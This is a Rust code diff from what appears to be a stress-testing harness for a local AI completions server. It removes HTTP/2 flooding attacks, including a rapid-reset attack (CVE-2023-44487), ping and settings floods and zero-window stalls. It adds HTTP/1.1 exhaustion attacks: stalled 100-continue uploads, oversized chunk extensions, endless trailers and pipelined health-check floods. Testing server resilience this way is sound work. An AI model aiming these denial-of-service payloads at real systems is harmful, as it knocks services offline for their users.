@@ -1,18 +1,12 @@
-//! Attacks below requests: connections, heads, frames. Attackers take whatever comes back.
+//! Attacks below requests: connections, heads, bodies. Attackers take whatever comes back.
 
 use std::io::{Read as _, Write as _};
 use std::net::TcpStream;
 use std::time::{Duration, Instant};
 
-use crate::ground::Ground;
-use crate::support::frames::{END_HEADERS, END_STREAM, block, frame, request};
+use serde_json::Value;
 
-const DATA: u8 = 0;
-const HEADERS: u8 = 1;
-const RST_STREAM: u8 = 3;
-const SETTINGS: u8 = 4;
-const PING: u8 = 6;
-const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+use crate::ground::Ground;
 
 /// How long an attacker listens to an answer.
 const LISTEN: Duration = Duration::from_millis(1500);
@@ -47,7 +41,7 @@ pub(crate) fn send_and_leave(ground: &Ground, sent: &[u8]) {
     }
 }
 
-fn listen(stream: &mut TcpStream) {
+pub(crate) fn listen(stream: &mut TcpStream) {
     let begun = Instant::now();
     let _ = stream.set_read_timeout(Some(LISTEN));
     let mut piece = vec![0; 1 << 16];
@@ -111,77 +105,46 @@ pub(crate) fn ambiguous_heads(ground: &Ground) {
     );
 }
 
-fn opened(ground: &Ground) -> Option<TcpStream> {
+/// Requests that wait for leave to send a body, and never send it.
+pub(crate) fn expectations(ground: &Ground, key: &str) {
+    let head = format!(
+        "POST /v1/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n\
+         authorization: Bearer {key}\r\ncontent-length: 1000000\r\nexpect: 100-continue\r\n\r\n"
+    );
+    hold(ground, 60, head.as_bytes());
+}
+
+/// Chunks with long extensions, one byte each, and trailers without end.
+pub(crate) fn trailers(ground: &Ground, key: &str) {
+    let head = format!(
+        "POST /v1/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n\
+         authorization: Bearer {key}\r\ntransfer-encoding: chunked\r\n\r\n"
+    );
+    let extension = "e".repeat(7000);
+    let trailers: String = (0..100_000).map(|n| format!("t-{n}: {n}\r\n")).collect();
+    for body in [
+        format!("1;{extension}\r\n \r\n").repeat(300),
+        "1\r\n \r\n".repeat(200_000),
+        format!("2\r\n{{}}\r\n0\r\n{trailers}\r\n"),
+        format!("1;{}", "e".repeat(1 << 20)),
+    ] {
+        exchange(ground, format!("{head}{body}").as_bytes());
+    }
+}
+
+/// Questions after the server's health that nobody reads the answers of.
+pub(crate) fn health_checks(ground: &Ground, seed: u64) {
+    let path = ["/health", "/ready", "/metrics"][seed as usize % 3];
+    let request = format!("GET {path} HTTP/1.1\r\nhost: localhost\r\n\r\n");
+    hold(ground, 100, request.repeat(30).as_bytes());
+}
+
+/// The answer to a request that asks for the end of its connection, if it is JSON.
+pub(crate) fn answer(ground: &Ground, sent: &[u8]) -> Option<Value> {
     let mut stream = ground.connect()?;
-    stream.write_all(PREFACE).ok()?;
-    stream.write_all(&frame(SETTINGS, 0, 0, &[])).ok()?;
-    Some(stream)
-}
-
-/// Streams without a key that send bodies.
-pub(crate) fn keyless_streams(ground: &Ground) {
-    let Some(mut stream) = opened(ground) else {
-        return;
-    };
-    let head = block(&request("POST", "/v1/chat/completions"));
-    let piece = vec![b' '; 16_384];
-    for id in (1..256).step_by(2) {
-        let sent = stream.write_all(&frame(HEADERS, END_HEADERS, id, &head));
-        if sent.is_err() || stream.write_all(&frame(DATA, 0, id, &piece)).is_err() {
-            break;
-        }
-    }
-    listen(&mut stream);
-}
-
-/// Streams that are reset as soon as they are opened (CVE-2023-44487).
-pub(crate) fn rapid_resets(ground: &Ground) {
-    let Some(mut stream) = opened(ground) else {
-        return;
-    };
-    let head = block(&request("GET", "/v1/models"));
-    for id in (1..4000).step_by(2) {
-        let mut both = frame(HEADERS, END_HEADERS | END_STREAM, id, &head);
-        both.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
-        if stream.write_all(&both).is_err() {
-            break;
-        }
-    }
-    listen(&mut stream);
-}
-
-/// Frames that ask for an answer each, and are never read.
-pub(crate) fn control_frames(ground: &Ground) {
-    let Some(mut stream) = opened(ground) else {
-        return;
-    };
-    for _ in 0..20_000 {
-        let mut both = frame(PING, 0, 0, b"12345678");
-        both.extend(frame(SETTINGS, 0, 0, &[]));
-        if stream.write_all(&both).is_err() {
-            break;
-        }
-    }
-}
-
-/// Answers over HTTP/2 that nobody makes room for.
-pub(crate) fn closed_windows(ground: &Ground, key: &str) {
-    let Some(mut stream) = opened(ground) else {
-        return;
-    };
-    // SETTINGS_INITIAL_WINDOW_SIZE = 0
-    let _ = stream.write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]));
-    let bearer = format!("Bearer {key}");
-    let mut headers = request("GET", "/v1/models");
-    headers.push(("authorization", &bearer));
-    let head = block(&headers);
-    for id in (1..256).step_by(2) {
-        if stream
-            .write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &head))
-            .is_err()
-        {
-            break;
-        }
-    }
-    std::thread::sleep(Duration::from_millis(500));
+    stream.write_all(sent).ok()?;
+    let mut whole = Vec::new();
+    stream.take(1 << 20).read_to_end(&mut whole).ok()?;
+    let end = whole.windows(4).position(|four| four == b"\r\n\r\n")?;
+    serde_json::from_slice(whole.get(end + 4..)?).ok()
 }
